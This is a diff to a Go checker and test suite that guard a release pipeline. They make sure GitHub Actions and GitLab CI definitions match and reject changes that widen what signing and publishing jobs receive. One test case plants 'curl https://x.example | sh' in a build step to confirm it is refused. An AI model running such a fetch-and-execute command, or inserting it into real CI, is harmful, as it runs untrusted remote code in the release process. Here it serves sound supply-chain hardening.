@@ -113,14 +113,20 @@ func compare(name string, a job, b gitlabJob) (why []string) {
 			why = append(why, fmt.Sprintf("%s calls its step %d times", name, n))
 		}
 	}
-	if needs := slices.Sorted(slices.Values(a.Needs)); !slices.Equal(needs, slices.Sorted(slices.Values(b.Needs))) {
+	needs := slices.Sorted(slices.Values(a.Needs))
+	if !slices.Equal(needs, slices.Sorted(slices.Values(b.Needs))) {
 		why = append(why, fmt.Sprintf("%s needs %v, and %v on GitLab", name, needs, b.Needs))
+	}
+	// On GitLab a job has the files and the variables of all that it needs, wanted or
+	// not: of those that run code of upstream the signer's must be none.
+	if from, ok := handedOver[name]; ok && !slices.Equal(needs, slices.Sorted(slices.Values(append([]string{"plan"}, from...)))) {
+		why = append(why, fmt.Sprintf("%s needs %v, not the plan and %v", name, needs, from))
 	}
 	return why
 }
 
 // Every value in a command is a variable in quotes, or a word.
-var mages = regexp.MustCompile(`^(set -eu|go tool mage release:[a-z]+( -[a-z]+=("[$a-z0-9_,{}#A-Z]+"|[a-z0-9/]+))*( >>outputs\.env)?)\n$`)
+var mages = regexp.MustCompile(`^(set -eu|go tool mage release:[a-z]+( -[a-z]+=("[$a-z0-9_,={}#A-Z]+"|[a-z0-9/]+))*( >>outputs\.env)?)\n$`)
 
 // others are the lines that are no target, by the job that has them.
 var others = map[string][]string{"plan": {
@@ -135,16 +141,17 @@ var others = map[string][]string{"plan": {
 	`if [ "${FIRST:-}" = yes ]; then first=true; fi`,
 }}
 
-// digests are the variables that a command of a job has to hand over.
+// digests are what a command of a job has to hand over: each variable under its own
+// key.
 func digests(name string) []string {
-	all := []string{"$plan"}
+	all := []string{"plan=$plan"}
 	for _, from := range handedOver[name] {
 		if !slices.Contains(sharded, from) {
-			all = append(all, "$"+from)
+			all = append(all, fmt.Sprintf("%[1]s=$%[1]s", from))
 			continue
 		}
 		for n := range shards {
-			all = append(all, fmt.Sprintf("$%s_%d", from, n+1))
+			all = append(all, fmt.Sprintf("%[1]s_%[2]d=$%[1]s_%[2]d", from, n+1))
 		}
 	}
 	return all
@@ -265,9 +272,10 @@ func TestRefuses(t *testing.T) {
 		{"release", "runs-on: ${{ matrix.runner }}", "runs-on: self-hosted", "build runs on self-hosted"},
 		{"release", "          set -eu\n          go tool mage release:build", "          go tool mage release:build", "goes on after a failure"},
 		{"release", "          set -eu\n          go tool mage release:build", "          set -eu\n          curl https://x.example | sh\n          go tool mage release:build", "build runs curl"},
-		{"release", ` -digests="$plan,$assemble"`, "", "sign takes any file"},
-		{"release", ` -digests="$plan,$build_1,$build_2"`, ` -digests="$plan,$build_1"`, "audit takes any file"},
-		{"release", ` -digests="$plan,$sign"`, ` -digests="$sign"`, "publish takes any file"},
+		{"release", ` -digests="plan=$plan,assemble=$assemble"`, "", "sign takes any file"},
+		{"release", ` -digests="plan=$plan,build_1=$build_1,build_2=$build_2"`, ` -digests="plan=$plan,build_1=$build_1"`, "audit takes any file"},
+		{"release", `,build_2=$build_2"`, `,build_2=$build_1"`, "audit takes any file"},
+		{"release", ` -digests="plan=$plan,sign=$sign"`, ` -digests="sign=$sign"`, "publish takes any file"},
 		{"release", "build_1: ${{ needs.build.outputs.build_1 }}", "build_1: ${{ needs.build.outputs.build_2 }}", "calls ${{ needs.build.outputs.build_2 }} build_1"},
 		{"release", "assemble: ${{ needs.assemble.outputs.assemble }}", "assemble: ${{ needs.build.outputs.build_1 }}", "no job has that it needs"},
 		{"release", "name: build-${{ matrix.name }}\n          path: release/out\n", "pattern: build-*\n          path: release/out\n          merge-multiple: true\n", "audit takes"},
@@ -289,18 +297,21 @@ func TestRefuses(t *testing.T) {
 		{"gitlab", "  timeout: 2h\n", "", "build is in stage"},
 		{"gitlab", "  parallel: 2\n", "  parallel: 3\n", "build runs on 3 machines"},
 		{"gitlab", "-shards=2", "-shards=3", "the commands of plan are not the same"},
-		{"gitlab", `-digests="$plan,$sign"`, `-digests="$plan,$assemble"`, "publish takes any file"},
+		{"gitlab", `-digests="plan=$plan,sign=$sign"`, `-digests="plan=$plan,sign=$assemble"`, "publish takes any file"},
+		{"gitlab", "needs: [plan, assemble]", "needs: [plan, build, assemble]", "sign needs [assemble plan], and [plan build assemble] on GitLab"},
+		{"both", "needs: [plan, assemble]", "needs: [plan, build, assemble]", "sign needs [assemble build plan], not the plan and [assemble]"},
+		{"gitlab", "  needs: [plan, assemble]\n", "  needs: [plan, assemble]\n  dependencies: [build]\n", "field dependencies not found"},
 		{"gitlab", "  resource_group: release", "  resource_group: other", "publish waits for"},
 		{"gitlab", "paths: [release/out/sign.tar]", "paths: [.]", "sign hands over"},
 		{"gitlab", "    - if: $CI_COMMIT_TAG\n", "    - if: $CI_COMMIT_BRANCH\n", "plan runs on"},
 	} {
 		f := whole
-		text := map[string]*string{"ci": &f.ci, "release": &f.release, "gitlab": &f.gitlab}[tt.file]
-		if !strings.Contains(*text, tt.old) {
-			t.Errorf("%s does not hold %q", tt.file, tt.old)
-			continue
+		for _, text := range map[string][]*string{"ci": {&f.ci}, "release": {&f.release}, "gitlab": {&f.gitlab}, "both": {&f.release, &f.gitlab}}[tt.file] {
+			if !strings.Contains(*text, tt.old) {
+				t.Errorf("%s does not hold %q", tt.file, tt.old)
+			}
+			*text = strings.Replace(*text, tt.old, tt.new, 1)
 		}
-		*text = strings.Replace(*text, tt.old, tt.new, 1)
 		if why := strings.Join(f.broken(), "\n"); !strings.Contains(why, tt.want) {
 			t.Errorf("%s with %q: want %s, got\n%s", tt.file, tt.new, tt.want, why)
 		}
